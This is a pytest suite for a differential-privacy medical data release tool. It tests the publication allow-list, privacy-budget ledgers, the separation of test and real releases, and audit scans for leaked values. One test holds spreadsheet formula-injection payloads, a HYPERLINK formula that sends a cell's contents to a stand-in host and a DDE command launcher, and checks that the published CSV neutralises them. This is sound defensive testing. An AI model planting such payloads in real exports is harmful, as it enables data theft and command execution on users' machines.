"""The publication boundary: what ships is only what the guarantee covers (issue 11).

Every test here fails on the code before the boundary existed: the manifest carried the input's
row count and hash, candidates.csv and checks.json shipped, delta moved with n, a fixed seed
wrote into the publishable store, budgets were per config name, histogram drew twice.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from flows.release import ReleaseRequest, release_flow
from medrelease.data.aggregate import aggregate_frame
from medrelease.data.taxonomy import SUPPRESSED, from_leaf_paths
from medrelease.errors import BudgetExceededError
from medrelease.plan import PublicFacts
from medrelease.privacy.ledger import Ledger, LedgerSourceError
from medrelease.privacy.publication import PUBLISHED, STEWARD_ONLY, BoundaryError, split_facts
from medrelease.release import release_from_counts
from medrelease.storage.manifest_model import PublicManifest

from ..conftest import ROOT, serve_inbox

pytestmark = pytest.mark.usefixtures("prefect_harness")


@pytest.fixture
def home(tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setenv("MEDRELEASE_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def test_the_allow_list_is_the_manifest_and_nothing_is_on_both_sides() -> None:
    assert set(PublicManifest.model_fields) == set(PUBLISHED)
    assert not set(PUBLISHED) & set(STEWARD_ONLY)
    facts = {name: None for name in PUBLISHED} | {"input_rows": 5}
    public, steward = split_facts(facts)
    assert "input_rows" not in public and steward == {"input_rows": 5}
    with pytest.raises(BoundaryError, match=r"new_field.*neither side"):
        split_facts(facts | {"new_field": 1})


@pytest.mark.parametrize("mechanism", ["ipa", "histogram", "diffgen", "aim"])
def test_publication_audit_passes_the_sound_mechanisms(mechanism: str) -> None:
    from flows.audit import publication_audit_flow

    result = publication_audit_flow(mechanism=mechanism, runs=0, seed=3)
    assert result["findings"] == [] and result["verdict"] == "passes"


def test_publication_audit_flags_the_paper_mechanism() -> None:
    from flows.audit import publication_audit_flow

    result = publication_audit_flow(mechanism="ipa-paper", runs=0, seed=3, designs=["unique"])
    assert result["verdict"] == "FLAGGED"
    assert any("unique-value" in f and "data" in f for f in result["findings"])


def test_neighbour_diff_catches_an_input_derived_field_put_back(tmp_path, monkeypatch) -> None:
    """Put the input's row count back into the manifest (as the old code did): flagged."""
    import medrelease.evidence.audit_publication
    import medrelease.privacy.publication
    import tasks.publish
    from flows.audit import inspect_pair
    from medrelease.evidence.audit_publication import write_audit_dataset
    from medrelease.privacy.publication import Basis, PublishedField

    leaky = {**PUBLISHED, "input_rows": PublishedField(Basis.PUBLIC, "put back by mistake")}
    for module in (medrelease.privacy.publication, medrelease.evidence.audit_publication):
        monkeypatch.setattr(module, "PUBLISHED", leaky)
    monkeypatch.setattr(tasks.publish, "PublicManifest", _permissive_manifest())
    config = write_audit_dataset(tmp_path / "dataset", "ipa")
    findings = [str(f) for f in inspect_pair(tmp_path, config, "common", "ipa", 1.0, 5)]
    assert any("neighbour-diff" in f and "manifest.input_rows" in f for f in findings), findings


def _permissive_manifest():
    from pydantic import ConfigDict

    class Permissive(PublicManifest):
        model_config = ConfigDict(extra="allow")

    return Permissive


@pytest.mark.parametrize("n", [109_360, 138_934])
def test_thresholds_are_identical_for_n_and_n_plus_one(n: int) -> None:
    """At the sizes where the old default delta moved tau (25 -> 26, 71 -> 72), n and n + 1
    rows give the same delta, thresholds and budget steps."""
    taxonomy = from_leaf_paths("d", "categorical", ["a", "b"], [[SUPPRESSED], [SUPPRESSED]])
    plans = []
    for rows in (n, n + 1):
        frame = pd.DataFrame({"d": np.where(np.arange(rows) % 2, "a", "b"),
                              "inf": np.where(np.arange(rows) % 3, "x", "y")})
        counts = aggregate_frame(frame, ["d"], ["inf"], (taxonomy,))
        result = release_from_counts(counts, "ipa", {"epsilon": 1.0}, seed=1,
                                     facts=PublicFacts())
        plans.append((result.params["delta"], result.guarantee.notes,
                      [s.as_dict() for s in result.budget_steps]))
    assert plans[0] == plans[1]
    assert plans[0][0] == 1e-6


def _extract(path: Path, rows: int = 3000) -> Path:
    pd.read_csv(ROOT / "datasets/nps-sample/nps_sample.csv", nrows=rows).to_csv(path, index=False)
    return path


def test_a_seeded_release_is_a_test_release_and_never_blocks_the_arrival(home: Path,
                                                                         tmp_path,
                                                                         monkeypatch) -> None:
    from flows.arrival import arrival_release_flow
    from medrelease.storage.inbox import InboxWatcher
    from medrelease.storage.io import file_sha256

    extract = _extract(tmp_path / "extract.csv")
    config = str(_config_copy(tmp_path, "nps-arrivals"))  # the sample, releasing with ipa
    test = release_flow(ReleaseRequest(dataset=config, input_path=str(extract), seed=4,
                                       evaluate=False))
    folder = Path(test["path"])
    assert folder.is_relative_to(home / "test-releases") and not (home / "releases").exists()
    assert folder.name.startswith("TEST-") and (folder / "TEST-data.csv").is_file()
    assert test["manifest"]["test_release"] and "TEST RELEASE" in (folder / "report.md").read_text()
    [spend] = Ledger(home / "ledger.sqlite").spends()
    assert spend.test and spend.status == "released"

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    serve_inbox(monkeypatch, inbox, config)  # as `medrelease serve --inbox --dataset` does
    shutil.copy(extract, inbox / "extract.csv")
    (inbox / "extract.csv.done").write_text("")
    [arrival] = InboxWatcher(inbox).poll()
    real = arrival_release_flow(config, str(arrival.path), arrival.sha256)
    assert Path(real["path"]).is_relative_to(home / "releases")
    assert arrival.sha256 == file_sha256(extract)
    shutil.copy(extract, inbox / "again.csv")
    (inbox / "again.csv.done").write_text("")
    [again] = InboxWatcher(inbox).poll() or [None]
    if again is not None:  # the watcher may already file it as a duplicate by its hash
        state = arrival_release_flow(config, str(again.path), again.sha256, return_state=True)
        assert state.name == "Duplicate" and state.result()["release_id"] is None


def _config_copy(folder: Path, name: str, **privacy) -> Path:
    """nps-sample's config under another name, naming ipa (fast; the sample's default, aim,
    takes ~25 s a release and these tests are about budgets and stores, not the mechanism)."""
    spec = yaml.safe_load((ROOT / "datasets/nps-sample/dataset.yaml").read_text())
    spec["name"] = name
    spec["privacy"].update(privacy)
    spec["mechanism"] = {"name": "ipa", "params": {"epsilon": 1.0}}
    for column in spec["columns"].values():  # taxonomies from the project's taxonomies/
        if "taxonomy" in column:
            column["taxonomy"] = str((ROOT / "datasets/nps-sample" / column["taxonomy"]).resolve())
    if not (folder / "diagnosis_codes.txt").exists():  # a domain file beside its config
        shutil.copy(ROOT / "datasets/nps-sample/diagnosis_codes.txt", folder)
    spec["input"]["path"] = str(folder / "shared-extract.csv")
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(spec))
    return path


def test_two_configs_over_one_source_share_one_budget(home: Path, tmp_path) -> None:
    _extract(tmp_path / "shared-extract.csv")
    first = _config_copy(tmp_path, "ward-a", source="hospital-x", lifetime_epsilon=1.5)
    second = _config_copy(tmp_path, "ward-b", source="hospital-x", lifetime_epsilon=1.5)
    release_flow(ReleaseRequest(dataset=str(first), evaluate=False))
    with pytest.raises(BudgetExceededError, match=r"hospital-x.*spent 1 \+ requested 1"):
        release_flow(ReleaseRequest(dataset=str(second), evaluate=False))
    other = _config_copy(tmp_path, "ward-c", lifetime_epsilon=100.0)  # no source: its own name
    with pytest.raises(LedgerSourceError, match="source: hospital-x"):
        release_flow(ReleaseRequest(dataset=str(other), evaluate=False))
    assert len(Ledger(home / "ledger.sqlite").spends()) == 1


def test_the_cap_cannot_be_raised_by_editing_the_yaml(home: Path, tmp_path) -> None:
    _extract(tmp_path / "shared-extract.csv")
    path = _config_copy(tmp_path, "capped", lifetime_epsilon=1.0)
    release_flow(ReleaseRequest(dataset=str(path), evaluate=False))
    _config_copy(tmp_path, "capped", lifetime_epsilon=50.0)  # the steward edits the YAML
    with pytest.raises(BudgetExceededError, match="total 1 "):
        release_flow(ReleaseRequest(dataset=str(path), evaluate=False))
    Ledger(home / "ledger.sqlite").set_cap("capped", 3.0, 1e-4, "approved by the board")
    result = release_flow(ReleaseRequest(dataset=str(path), evaluate=False))
    assert result["manifest"]["lifetime"]["epsilon_cap"] == 3.0
    assert "ledger's cap applies" in result["record"]["lifetime_cap_note"]


def test_a_kanon_release_voids_the_lifetime_guarantee_of_later_releases(home: Path) -> None:
    before = release_flow(ReleaseRequest(evaluate=False, mechanism="ipa"))  # (ipa: fast)
    assert not before["manifest"]["lifetime"]["void"]
    release_flow(ReleaseRequest(evaluate=False, mechanism={"mechanism": "kanon", "k": 10},
                                void_lifetime_guarantee=True))
    after = release_flow(ReleaseRequest(evaluate=False, mechanism="ipa"))
    lifetime = after["manifest"]["lifetime"]
    assert lifetime["void"] and "kanon" in lifetime["void_reason"]
    assert "Lifetime guarantee VOID" in (Path(after["path"]) / "report.md").read_text()
    assert after["manifest"]["guarantee"]["proven"]  # the release itself is still (eps, delta)-DP


def test_histogram_draws_once_and_reports_that_draw(home: Path) -> None:
    from prefect.client.orchestration import get_client

    from ..conftest import recorded_task_runs

    result = release_flow(ReleaseRequest(evaluate=False,
                                         mechanism={"mechanism": "histogram", "epsilon": 1.0}))
    with get_client(sync_client=True) as client:
        tasks = recorded_task_runs(client, result["flow_run_id"])
    assert any(t.name.startswith("publish-release") for t in tasks)  # the run's tasks are in
    assert not any(t.name.startswith("score-node-batch") for t in tasks)
    steward = home / "steward" / "nps-sample" / result["release_id"]
    [summary] = pd.read_csv(steward / "candidates.csv").to_dict(orient="records")
    assert summary["released_rows"] == result["manifest"]["released_rows"]


def test_published_csv_is_inert_in_a_spreadsheet(tmp_path: Path) -> None:
    from medrelease.storage.store import ReleaseStore

    table = pd.DataFrame({"dx": ['=HYPERLINK("http://x"&A2,"x")', "+cmd|' /C calc'!A0",
                                 "@SUM(1)", "-2+3", "-5", "A001"]})
    published = ReleaseStore(tmp_path).publish("ds", "r1", table, {})
    lines = (published.path / "data.csv").read_text().splitlines()[1:]
    assert [line.lstrip('"')[0] for line in lines[:4]] == ["'"] * 4
    assert lines[4:] == ["-5", "A001"]  # plain numbers and ordinary codes unchanged
    assert pd.read_parquet(published.path / "data.parquet")["dx"].tolist() == table["dx"].tolist()


def test_audit_is_inconclusive_at_or_above_what_its_runs_can_detect() -> None:
    from medrelease.evidence.audit import detection_ceiling, run_audit

    assert detection_ceiling(200) == pytest.approx(3.28, abs=0.01)
    result = run_audit("ipa", 4.0, runs=40, seed=1, design="tipping")
    assert result.ceiling < 4.0 and result.verdict == "inconclusive"
    assert run_audit("ipa", 1.0, runs=40, seed=1).verdict == "within its claim"


def test_show_prints_public_facts_and_the_steward_record(home: Path) -> None:
    from typer.testing import CliRunner

    from deployments.cli import app

    result = release_flow(ReleaseRequest(evaluate=False, mechanism="ipa"))  # (ipa: fast)
    shown = CliRunner().invoke(app, ["show", result["path"]])
    assert shown.exit_code == 0, shown.output
    assert result["release_id"] in shown.output and "steward record" in shown.output
    assert json.dumps(result["record"]["input_sha256"]) in shown.output
    cap = CliRunner().invoke(app, ["ledger", "set-cap", "nps-sample", "--epsilon", "12",
                                   "--delta", "1e-4", "--reason", "annual review"])
    assert cap.exit_code == 0, cap.output
    listing = CliRunner().invoke(app, ["ledger"])  # 80 columns: nothing may be cut
    assert "annual review" in listing.output and "nps-sample" in listing.output
    assert result["release_id"] in listing.output and "…" not in listing.output


def test_every_published_field_is_explained_in_the_privacy_doc() -> None:
    text = (ROOT / "docs" / "PRIVACY.md").read_text()
    section = text[text.index("## What is published"):]
    missing = [name for name in PUBLISHED if f"`{name}`" not in section]
    assert missing == [], f"document these published fields in docs/PRIVACY.md: {missing}"


def _folder(path, value: str, table=None, metadata: dict | None = None):
    """A minimal published folder: the value escaped in the manifest's JSON, optionally hidden
    in the Parquet file's key-value metadata."""
    import json as _json

    import pyarrow as pa
    import pyarrow.parquet as pq

    path.mkdir(parents=True)
    table = table if table is not None else pd.DataFrame({"cat": ["c0", "c1"]})
    arrow = pa.Table.from_pandas(table, preserve_index=False)
    if metadata:
        arrow = arrow.replace_schema_metadata({**arrow.schema.metadata, **metadata})
    pq.write_table(arrow, path / "data.parquet", compression="zstd")
    table.to_csv(path / "data.csv", index=False)
    (path / "manifest.json").write_text(_json.dumps({"columns": {}, "note": value},
                                                    ensure_ascii=True))
    (path / "report.md").write_text("report\n")
    return path


def test_value_scan_reads_decoded_json_and_parquet_metadata(tmp_path) -> None:
    """A raw byte scan misses a value JSON escaped or kept in compressed Parquet metadata."""
    from medrelease.evidence.audit_publication import value_leaks

    value = "Ünique-Dx"  # ASCII-escaped in the manifest: '\\u00dcnique-Dx'
    folder = _folder(tmp_path / "a", value, metadata={b"note": value.encode()})
    assert value.encode() not in (folder / "manifest.json").read_bytes()
    where = {f.where for f in value_leaks(folder, value)}
    assert "manifest.json (decoded)" in where
    assert "data.parquet metadata and statistics (decoded)" in where


def test_parquet_schema_and_metadata_are_compared_between_neighbours(tmp_path) -> None:
    from medrelease.evidence.audit_publication import _parquet_compared, _statistics_rederived

    a = _folder(tmp_path / "a", "x", pd.DataFrame({"cat": pd.Series([], dtype=object)}))
    b = _folder(tmp_path / "b", "x", pd.DataFrame({"cat": ["c0"]}))
    found = {f.where for f in _parquet_compared(a, b)}
    assert "data.parquet schema" in found  # an empty release's null-typed column
    assert _statistics_rederived(b / "data.parquet") == []


def test_cli_release_says_when_the_folder_is_published_then_shows_the_evidence(home: Path
                                                                             ) -> None:
    """Issue 27: the CLI prints the release folder as soon as it is published (the evidence
    report is written after it), then the release with its evidence report."""
    from typer.testing import CliRunner

    from deployments.cli import app

    shown = CliRunner().invoke(app, ["release", "nps-sample", "--mechanism", "ipa", "--seed", "5"],
                               env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.output
    published = [line for line in shown.output.splitlines() if line.startswith("published ")]
    assert len(published) == 1 and "writing the evidence report" in published[0]
    folder = Path(published[0].split()[1])
    assert (folder / "manifest.json").is_file() and folder.is_relative_to(home)
    assert shown.output.index("published ") < shown.output.index("released nps-sample")
    assert "report.html" in shown.output.replace("\n", "").replace("│", "").replace(" ", "")


def test_the_console_command_releases_and_exits_cleanly(home: Path) -> None:
    """The installed ``medrelease`` command, through its entry point (no collector passes while
    it imports, pandera without the test tool's strategies), releases the sample on the
    session's Prefect API and exits 0 with the folder published."""
    import os
    import subprocess
    import sys

    from prefect.settings import PREFECT_API_URL

    env = {**os.environ, "MEDRELEASE_HOME": str(home), "PREFECT_API_URL": PREFECT_API_URL.value(),
           "COLUMNS": "200"}
    done = subprocess.run([str(Path(sys.executable).with_name("medrelease")), "release",
                           "nps-sample", "--mechanism", "ipa", "--seed", "4"], env=env, cwd=ROOT,
                          text=True, capture_output=True, timeout=300)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    published = [line for line in done.stdout.splitlines() if line.startswith("published ")]
    assert len(published) == 1, done.stdout[-2000:]
    assert (Path(published[0].split()[1]) / "manifest.json").is_file()
    assert "Traceback" not in done.stdout + done.stderr
